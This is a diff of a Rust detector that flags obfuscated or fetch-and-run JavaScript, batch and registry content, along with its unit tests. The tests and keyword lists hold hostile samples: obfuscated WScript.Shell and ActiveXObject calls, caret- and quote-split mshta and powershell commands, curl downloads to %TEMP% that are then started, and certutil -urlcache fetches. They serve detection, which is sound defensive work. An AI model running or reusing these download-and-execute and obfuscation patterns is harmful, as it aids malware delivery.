@@ -9,9 +9,10 @@ mod lexer;
 use lexer::{Lexer, Token};
 
 use super::names;
+use super::office::has_word;
 use crate::Content;
 use crate::kind::{self, Kind};
-use crate::octets::holds;
+use crate::octets::{holds, rest};
 
 /// Source code that somebody wrote is smaller.
 const MOST: usize = 8 << 20;
@@ -88,6 +89,7 @@ const OF_BROWSERS: &[&[u8]] = &[
 const ELSEWHERE: &[&str] = &[
     "$",
     "H5P",
+    "JSON",
     "React",
     "Vue",
     "XMLHttpRequest",
@@ -128,15 +130,30 @@ const RENAMED_FROM: usize = 16;
 fn script(text: &[u8]) -> Source {
     let raw = text.to_ascii_lowercase();
     let code = Code::of(text);
+    // A backslash that changes nothing hides nothing.
+    let plain: Vec<u8> = raw
+        .iter()
+        .copied()
+        .filter(|octet| *octet != b'\\')
+        .collect();
     let is_put_together = |word: &&[u8]| {
         let mut backward = word.to_vec();
         backward.reverse();
-        !holds(&raw, word) && (holds(&code.strings, word) || holds(&code.strings, &backward))
+        !holds(&raw, word)
+            && !holds(&plain, word)
+            && (holds(&code.strings, word) || holds(&code.strings, &backward))
     };
     if OBJECTS.iter().chain(COMMANDS).any(is_put_together) {
         return Source::Hides;
     }
-    let asks = OBJECTS.iter().any(|word| holds(&code.strings, word));
+    // Libraries try the names of one object in turn.
+    let of_browsers = || {
+        code.strings
+            .split(|octet| *octet == b'\n')
+            .any(is_of_browsers)
+    };
+    let asks = OBJECTS.iter().any(|word| holds(&code.strings, word))
+        || (code.asks_any && !(code.elsewhere && of_browsers()));
     // Code in a comment, which only these engines run.
     let conditional = holds(&raw, b"@cc_on") || holds(&raw, b"/*@if") || holds(&raw, b"//@if");
     if asks
@@ -162,6 +179,8 @@ struct Code {
     strings: Vec<u8>,
     /// It uses what only Windows Script Host has, or writes a name in a way that nobody writes one.
     host: bool,
+    /// It makes an object by a name that is not written there.
+    asks_any: bool,
     /// It uses what Windows Script Host does not have.
     elsewhere: bool,
     /// It makes code of text.
@@ -176,11 +195,13 @@ impl Code {
     fn of(text: &[u8]) -> Self {
         let mut code = Self::default();
         let mut seen = [Token::Mark(b';'), Token::Mark(b';')];
-        for token in Lexer::new(text) {
+        let mut lexer = Lexer::new(text);
+        for token in lexer.by_ref() {
             code.take(&seen, &token);
             let [_, last] = seen;
             seen = [last, token];
         }
+        code.host |= lexer.is_twofold;
         code
     }
 
@@ -195,7 +216,7 @@ impl Code {
             self.host = true;
         }
         if is_word(second, b"ActiveXObject") && *last == Token::Mark(b'(') {
-            self.host |= !matches!(token, Token::Text(text) if is_of_browsers(text));
+            self.asks_any |= !matches!(token, Token::Text(text) if is_of_browsers(text));
         }
         match token {
             Token::Word(word) => self.word(last, word),
@@ -231,7 +252,8 @@ impl Code {
             _ => {}
         }
         self.elsewhere |= !is_member && ELSEWHERE.iter().any(|name| name.as_bytes() == word);
-        self.host |= word.contains(&b'\\');
+        // A letter of a name by its number.
+        self.host |= holds(word, b"\\u");
         self.renamed += usize::from(word.starts_with(b"_0x"));
     }
 }
@@ -245,16 +267,15 @@ fn is_of_browsers(text: &[u8]) -> bool {
     OF_BROWSERS.iter().any(|name| lower.starts_with(name))
 }
 
-/// What fetches something.
+/// What fetches something, as a word of its own.
 const FETCH: &[&[u8]] = &[
     b"curl",
     b"wget",
-    b"iwr ",
+    b"iwr",
     b"invoke-webrequest",
     b"downloadfile",
     b"downloadstring",
     b"start-bitstransfer",
-    b"\\\\",
 ];
 
 /// Where what is fetched is laid for nobody to see it.
@@ -301,6 +322,16 @@ const BATCH: &[&[u8]] = &[
 /// has a dozen.
 const PIECES_FROM: usize = 24;
 
+/// Programs whose names nobody cuts into pieces.
+const CUT: &[&[u8]] = &[
+    b"mshta",
+    b"powershell",
+    b"bitsadmin",
+    b"certutil",
+    b"regsvr32",
+    b"rundll32",
+];
+
 /// Looks at a batch file.
 fn batch(text: &[u8]) -> Source {
     let raw = text.to_ascii_lowercase();
@@ -308,15 +339,53 @@ fn batch(text: &[u8]) -> Source {
     let plain: Vec<u8> = raw.iter().copied().filter(|octet| *octet != b'^').collect();
     let has = |words: &[&[u8]]| words.iter().any(|word| holds(&plain, word));
     let is_put_together = |word: &&[u8]| !holds(&raw, word) && holds(&plain, word);
-    if BATCH.iter().chain(COMMANDS).any(is_put_together) {
+    // Nor do quotes within a word, nor variables that nothing is in.
+    let joined = joined(&plain);
+    let is_cut = |word: &&[u8]| !holds(&raw, word) && holds(&joined, word);
+    if BATCH.iter().chain(COMMANDS).any(is_put_together) || CUT.iter().any(is_cut) {
         return Source::Hides;
     }
+    let fetches = |line: &[u8]| FETCH.iter().any(|word| has_word(line, word));
+    let aside = |line: &[u8]| ASIDE.iter().any(|word| holds(line, word));
+    let lines = || plain.split(|octet| matches!(octet, b'\n' | b'\r'));
+    let starts = |line: &[u8]| line.trim_ascii_start().starts_with(b"start ");
+    let is_fetched = lines().any(|line| fetches(line) && aside(line))
+        || (lines().any(|line| fetches(line) && holds(line, b"http")) && lines().any(starts));
     let pieces = memchr::memmem::find_iter(&plain, b":~").take(PIECES_FROM);
-    if has(BATCH) || (has(FETCH) && has(ASIDE)) || pieces.count() == PIECES_FROM {
+    if has(BATCH) || is_fetched || pieces.count() == PIECES_FROM {
         Source::Runs
     } else {
         Source::Plain
     }
+}
+
+/// A batch file without its quotes, and without variables within words.
+fn joined(text: &[u8]) -> Vec<u8> {
+    /// Longer ones are no names of variables.
+    const NAME_MAX: usize = 64;
+    let mut out = Vec::with_capacity(text.len());
+    let mut left = text;
+    while let Some((octet, behind)) = left.split_first() {
+        left = behind;
+        let is_name = |octet: &u8| octet.is_ascii_alphanumeric() || b"_~:,-=".contains(octet);
+        match octet {
+            b'"' => {}
+            b'%' => {
+                let name = behind
+                    .iter()
+                    .take(NAME_MAX)
+                    .take_while(|octet| is_name(octet));
+                let length = name.count();
+                if length > 0 && behind.get(length) == Some(&b'%') {
+                    left = rest(behind, length + 1);
+                } else {
+                    out.push(b'%');
+                }
+            }
+            other => out.push(*other),
+        }
+    }
+    out
 }
 
 /// Keys under which Windows looks for what it starts, and commands.
@@ -327,6 +396,8 @@ const KEYS: &[&[u8]] = &[
     b"\\shell\\open\\command",
     b"appinit_dlls",
     b"\\winlogon]",
+    b"command processor",
+    b"userinitmprlogonscript",
     b"javascript:",
     b"powershell",
     b"mshta",
@@ -352,8 +423,9 @@ pub fn fuzz(octets: &[u8]) {
     for look in [script, batch, registry] {
         look(octets);
     }
-    let tokens = Lexer::new(octets).count();
-    assert!(tokens <= octets.len(), "each token takes an octet");
+    let most = octets.len().saturating_add(1);
+    let tokens = Lexer::new(octets).take(most).count();
+    assert!(tokens < most, "each token takes an octet");
 }
 
 #[cfg(test)]
@@ -376,6 +448,11 @@ mod tests {
             "if (typeof WScript !== 'undefined') { module.exports = 1; }",
             "$('#a')[b](function () {});",
             "document.title = `a ${b}`;",
+            "document; x = new RegExp('cmd\\.exe'); y = '\\/';",
+            "window; for (i in p) new ActiveXObject(p[i]); var p = ['Msxml2.XMLHTTP', 'Microsoft.XMLHTTP'];",
+            "if (typeof JSON !== 'object') { j = eval('(' + text + ')'); }",
+            "f`a${g(`b`)}\\n`; h(i);",
+            "if (a) /'/.test(b); while (c) /`/.test(d);",
             "x = a[b](c) ? d : e; // eval\nsetTimeout(f);",
             "function md5(a) { return b(a[0], a[1]); }",
             "var s3 = require('s3'); s3.getObject(a);",
@@ -401,6 +478,10 @@ mod tests {
             "var f = Function; f(a)();",
             "a.constructor.constructor(b)();",
             "this[a](b);",
+            "// a\rthis[a](b);",
+            "{}/'/;this[a](b);c='/'",
+            "eval\u{a0}(a);",
+            "window; new ActiveXObject(f(a));",
             "var x = this[a]; x(b);",
             "a[b](c);",
             "[][(![]+[])[+[]]]()",
@@ -420,10 +501,18 @@ mod tests {
             "document; a('llehS.tpircSW'.split('').reverse().join(''));",
             "document; a('power' + \"shell\");",
             "document; window['Active' + /* b */ 'XObject'];",
+            "// x\rthis['Act'+'iveXObject']('WScr'+'ipt.Shell').Run(a);",
+            "if(1)/`/.test(1);new this['Act'+'iveXObject']('WScr'+'ipt.Shell');if(1)/`/.test(1);",
+            "'WScr'\u{b}+\u{b}'ipt.Shell'",
         ] {
             assert_eq!(script(text.as_bytes()), Source::Hides, "{text}");
         }
-        for text in ["po^wersh^ell a", "m^shta http://203.0.113.1"] {
+        for text in [
+            "po^wersh^ell a",
+            "m^shta http://203.0.113.1",
+            "m\"sh\"ta http://203.0.113.1",
+            "m%x%shta http://203.0.113.1",
+        ] {
             assert_eq!(batch(text.as_bytes()), Source::Hides, "{text}");
         }
     }
@@ -436,6 +525,9 @@ mod tests {
             "curl -O https://example.org/a.jar\n",
             "set d=%date:~6,4%-%date:~3,2%-%date:~0,2%_%time:~0,2%%time:~3,2%\n",
             "echo ^<a^>\n",
+            "set LIBS=libcurl.lib\ncl a.c > %TEMP%\\build.log\n",
+            "set P=%CD:\\=\\\\%\ndel %TEMP%\\x.log\n",
+            "curl -O http://example.org/a.zip\nfindstr /r \"^C:\\\\\" a > \"%TEMP%\\a.txt\"\n",
         ] {
             assert_eq!(batch(text.as_bytes()), Source::Plain, "{text}");
         }
@@ -444,6 +536,7 @@ mod tests {
             "powershell -w hidden a",
             "powershell IEX(a)",
             "curl http://203.0.113.1/a -o %TEMP%\\a.exe",
+            "set d=%TEMP%\\a.exe\r\ncurl.exe http://203.0.113.1/a -o %d%\r\nstart %d%",
             "certutil -urlcache -f http://203.0.113.1/a a.exe",
         ] {
             assert_eq!(batch(text.as_bytes()), Source::Runs, "{text}");
